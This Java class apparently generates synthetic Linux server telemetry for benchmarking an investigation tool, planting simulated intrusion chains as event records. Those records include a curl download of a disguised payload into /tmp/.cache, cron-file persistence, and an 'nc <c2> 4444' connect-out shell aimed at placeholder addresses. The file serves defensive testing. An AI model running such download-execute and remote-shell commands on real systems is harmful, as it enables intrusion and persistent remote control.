package dev.kiroku.bench.investigate;

import dev.kiroku.event.EntityIds;
import dev.kiroku.event.Event;
import dev.kiroku.event.FileChange;
import dev.kiroku.event.NetworkActivity;
import dev.kiroku.event.Payload;
import dev.kiroku.event.ProcessExit;
import dev.kiroku.event.ProcessInfo;
import dev.kiroku.event.ProcessStart;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;

/**
 * Synthesises the history of a fleet from templates of what Linux servers do (init and services from the start-up
 * snapshot, cron jobs, ssh sessions running everyday commands that read, write and connect, services accepting
 * clients) and plants attack chains in it: an ssh shell downloads a payload with curl, runs it, it beacons to a C2,
 * writes a cron file and starts a shell that connects out; copies of the payload lie dormant on other endpoints.
 * Seeded, so two runs produce the same fleet.
 */
final class SimulatedFleet {
    /** One planted chain, with what a correct investigation must find. */
    record Planted(String agentId, String payloadEntityId, String curlEntityId, String shellEntityId, String sessionEntityId,
                   String payloadPath, String payloadSha256, String downloadAddress, String c2Address, String cronPath,
                   List<String> dormantAgents) {
    }

    private static final String[][] COMMANDS = {
            {"/usr/bin/ls", "ls", "-la"}, {"/usr/bin/cat", "cat", "/etc/os-release"}, {"/usr/bin/grep", "grep", "-r", "error", "/var/log"},
            {"/usr/bin/git", "git", "pull"}, {"/usr/bin/python3", "python3", "manage.py", "migrate"}, {"/usr/bin/vim", "vim", "config.yml"},
            {"/usr/bin/df", "df", "-h"}, {"/usr/bin/ps", "ps", "aux"}, {"/usr/bin/tar", "tar", "czf", "/tmp/backup.tgz", "/srv/app"},
            {"/usr/bin/systemctl", "systemctl", "status", "nginx"}, {"/usr/bin/journalctl", "journalctl", "-u", "app"},
            {"/usr/bin/curl", "curl", "-s", "https://api.internal/health"}, {"/usr/bin/ssh", "ssh", "deploy@10.0.0.5"},
    };

    private final int endpoints;
    private final long eventsPerEndpoint;
    private final int plantedChains;
    private final Instant start;
    private final Random random = new Random(20_260_327);
    private final List<Planted> planted = new ArrayList<>();
    private final List<String> sampleProcesses = new ArrayList<>();
    private final List<Planted> awaitingCopies = new ArrayList<>();
    private final List<DormantFile> dormantFiles = new ArrayList<>();
    private long events;

    /** A copy the agent-side inventory scanner would report on an endpoint. */
    record DormantFile(String agentId, String hostName, String path, String sha256, Instant seen) {
    }

    List<DormantFile> dormantFiles() {
        return dormantFiles;
    }

    /** A stable fake SHA-256 for a name (the same binary hashes the same on every endpoint). */
    static String shaOfHex(String name) {
        try {
            return HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                    .digest(name.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    SimulatedFleet(int endpoints, long totalEvents, int plantedChains, Instant start) {
        this.endpoints = endpoints;
        this.eventsPerEndpoint = Math.max(200, totalEvents / endpoints);
        this.plantedChains = plantedChains;
        this.start = start;
    }

    List<Planted> planted() {
        return planted;
    }

    /** Entity ids of ordinary processes deep in sessions, for ancestry queries. */
    List<String> sampleProcesses() {
        return sampleProcesses;
    }

    long events() {
        return events;
    }

    /** Generates every endpoint's history in time order per endpoint, handing out batches. */
    void generate(Consumer<List<Event>> batches) {
        List<Event> batch = new ArrayList<>(10_000);
        Consumer<Event> sink = e -> {
            batch.add(e);
            events++;
            if (batch.size() == 10_000) {
                batches.accept(List.copyOf(batch));
                batch.clear();
            }
        };
        int every = Math.max(1, endpoints / Math.max(1, plantedChains));
        for (int i = 0; i < endpoints; i++) {
            boolean plant = planted.size() < plantedChains && i % every == 0;
            new Endpoint(i, sink).run(plant);
        }
        if (!batch.isEmpty()) batches.accept(List.copyOf(batch));
    }

    private final class Endpoint {
        final String agent;
        final String host;
        final String address;
        final Consumer<Event> sink;
        long sequence;
        int nextPid = 300;
        Instant now;
        ProcessInfo init;
        ProcessInfo sshd;
        ProcessInfo cron;
        ProcessInfo service;

        Endpoint(int index, Consumer<Event> sink) {
            this.agent = String.format("agent-%04d", index);
            this.host = String.format("host-%04d", index);
            this.address = "10." + (index / 250) + "." + (index % 250) + ".10";
            this.sink = sink;
            this.now = start.plusMillis(random.nextInt(60_000));
        }

        void run(boolean plant) {
            long budget = eventsPerEndpoint;
            now = now.plusSeconds(1);
            init = snapshot(1, null, "/usr/lib/systemd/systemd", "/sbin/init");
            sshd = snapshot(650, init, "/usr/sbin/sshd", "sshd", "-D");
            emit(new NetworkActivity(NetworkActivity.Action.LISTENING_SOCKET, "tcp", "0.0.0.0", 22, null, 0, true, sshd));
            cron = snapshot(700, init, "/usr/sbin/cron", "cron", "-f");
            service = snapshot(800, init, "/usr/sbin/nginx", "nginx", "-g", "daemon off;");
            emit(new NetworkActivity(NetworkActivity.Action.LISTENING_SOCKET, "tcp", "0.0.0.0", 443, null, 0, true, service));
            dormantCopies();
            long plantAt = plant ? budget / 2 : -1;
            while (sequence < budget) {
                if (plantAt >= 0 && sequence >= plantAt) {
                    plantChain();
                    plantAt = -1;
                    continue;
                }
                int pick = random.nextInt(10);
                if (pick < 5) session();
                else if (pick < 7) cronJob();
                else serviceTraffic();
            }
        }

        void session() {
            ProcessInfo session = sessionFrom("10.200." + random.nextInt(250) + "." + random.nextInt(250));
            ProcessInfo shell = exec(session, "/usr/bin/bash", "-bash");
            int commands = 3 + random.nextInt(12);
            for (int c = 0; c < commands; c++) {
                String[] cmd = COMMANDS[random.nextInt(COMMANDS.length)];
                ProcessInfo p = exec(shell, cmd[0], java.util.Arrays.copyOfRange(cmd, 1, cmd.length));
                if (random.nextInt(4) == 0) sampleProcess(p);
                if (cmd[1].equals("vim") || cmd[1].equals("tar")) write(p, "/home/ops/" + cmd[cmd.length - 1].replace('/', '_'));
                if (cmd[1].equals("curl") || cmd[1].equals("git") || cmd[1].equals("ssh")) {
                    emit(new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, "10.0." + random.nextInt(4) + "." + random.nextInt(250),
                            cmd[1].equals("ssh") ? 22 : 443, true, p));
                }
                exit(p);
            }
            exit(shell);
            exit(session);
        }

        ProcessInfo sessionFrom(String peer) {
            tick(2_000);
            emit(new NetworkActivity(NetworkActivity.Action.ACCEPT, "tcp", null, 0, peer, 30_000 + random.nextInt(30_000), true, sshd));
            tick(50);
            return exec(sshd, "/usr/lib/openssh/sshd-session", "sshd-session: ops@pts/0");
        }

        void cronJob() {
            ProcessInfo sh = exec(cron, "/usr/bin/dash", "/bin/sh", "-c", "run-parts /etc/cron.hourly");
            ProcessInfo job = exec(sh, "/usr/bin/logrotate", "logrotate", "/etc/logrotate.conf");
            write(job, "/var/log/app/app.log.1");
            exit(job);
            exit(sh);
        }

        void serviceTraffic() {
            for (int i = 0; i < 5; i++) {
                tick(200);
                emit(new NetworkActivity(NetworkActivity.Action.ACCEPT, "tcp", null, 0, "198.18." + random.nextInt(250) + "." + random.nextInt(250),
                        40_000 + random.nextInt(20_000), true, service));
            }
            write(service, "/var/log/nginx/access.log");
        }

        void plantChain() {
            int n = planted.size();
            String name = "kworkerd" + n;
            String path = "/tmp/.cache/" + name;
            String sha = shaOfHex("payload:" + name);
            String download = "203.0." + (113 + n % 3) + "." + (1 + n % 250);
            String c2 = "192.0.2." + (1 + n % 250);
            ProcessInfo session = sessionFrom("10.250.0." + (1 + n % 250));
            ProcessInfo shell = exec(session, "/usr/bin/bash", "-bash");
            ProcessInfo curl = exec(shell, "/usr/bin/curl", "curl", "-s", "-o", path, "http://" + download + "/" + name);
            emit(new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, download, 80, true, curl));
            write(curl, path);
            exit(curl);
            ProcessInfo chmod = exec(shell, "/usr/bin/chmod", "chmod", "+x", path);
            exit(chmod);
            ProcessInfo payload = execHashed(shell, path, sha, path);
            emit(new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, c2, 443, true, payload));
            String cronPath = "/etc/cron.d/" + name;
            write(payload, cronPath);
            ProcessInfo sh = exec(payload, "/usr/bin/dash", "sh", "-c", "nc " + c2 + " 4444");
            emit(new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, c2, 4444, true, sh));
            List<String> dormant = new ArrayList<>();
            planted.add(new Planted(agent, payload.entityId(), curl.entityId(), shell.entityId(), session.entityId(), path, sha, download, c2,
                    cronPath, dormant));
            awaitingCopies.add(planted.getLast());
        }

        /** The two endpoints after a planted one receive the payload by rsync; it is never run there. */
        void dormantCopies() {
            for (Planted p : List.copyOf(awaitingCopies)) {
                ProcessInfo rsync = exec(init, "/usr/bin/rsync", "rsync", "-a", "backup::tools/", "/opt/tools/");
                String path = "/opt/tools/" + p.payloadPath().substring(p.payloadPath().lastIndexOf('/') + 1);
                write(rsync, path);
                exit(rsync);
                p.dormantAgents().add(agent);
                dormantFiles.add(new DormantFile(agent, host, path, p.payloadSha256(), now));
                if (p.dormantAgents().size() == 2) awaitingCopies.remove(p);
            }
        }

        ProcessInfo snapshot(int pid, ProcessInfo parent, String executable, String... args) {
            ProcessInfo p = process(pid, parent, executable, null, now.minus(Duration.ofDays(3)), args);
            emit(new ProcessStart(p, true));
            return p;
        }

        ProcessInfo exec(ProcessInfo parent, String executable, String... args) {
            return execHashed(parent, executable, shaOfHex(executable), args);
        }

        ProcessInfo execHashed(ProcessInfo parent, String executable, String sha, String... args) {
            tick(300);
            int pid = nextPid++;
            if (nextPid > 4_000_000) nextPid = 300;
            ProcessInfo p = process(pid, parent, executable, sha, now, args);
            emit(new ProcessStart(p, false));
            return p;
        }

        void exit(ProcessInfo p) {
            tick(100);
            emit(new ProcessExit(p, 0, 0));
        }

        void write(ProcessInfo p, String path) {
            tick(20);
            emit(new FileChange(FileChange.Action.CREATE, path, null, false, p));
            tick(5);
            emit(new FileChange(FileChange.Action.MODIFY, path, null, false, p));
        }

        ProcessInfo process(int pid, ProcessInfo parent, String executable, String sha, Instant startTime, String... args) {
            String entity = EntityIds.process(agent, pid, startTime.toEpochMilli() / 10);
            ProcessInfo.ParentRef ref = parent == null ? null : new ProcessInfo.ParentRef(parent.entityId(), parent.pid(), parent.executable(), parent.args());
            return new ProcessInfo(entity, pid, startTime, ref, executable, List.of(args), "/home/ops", sha,
                    new ProcessInfo.Credentials(1000, "ops", 1000, "ops", 1000, 1000, 1000), 7, "pts/0", null);
        }

        void tick(int maxMillis) {
            now = now.plusMillis(1 + random.nextInt(maxMillis));
        }

        void emit(Payload payload) {
            sink.accept(new Event(agent, ++sequence, now, host, List.of(), payload));
        }

        void sampleProcess(ProcessInfo p) {
            if (sampleProcesses.size() < 5_000) sampleProcesses.add(p.entityId());
        }
    }
}
